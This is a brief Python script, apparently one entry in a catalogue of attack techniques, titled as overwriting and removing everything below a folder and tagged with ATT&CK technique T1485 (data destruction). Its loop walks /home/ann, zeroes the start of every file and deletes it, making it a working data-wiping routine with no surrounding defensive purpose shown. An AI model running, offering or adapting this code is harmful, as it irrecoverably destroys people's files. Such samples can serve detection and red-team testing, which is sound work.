#!/usr/bin/env python3
# title: Python overwrites and removes everything below a folder
# technique: T1485
# needs: python3

import os
for folder, _, files in os.walk("/home/ann"):
    for name in files:
        path = os.path.join(folder, name)
        open(path, "wb").write(b"\0" * 64); os.unlink(path)
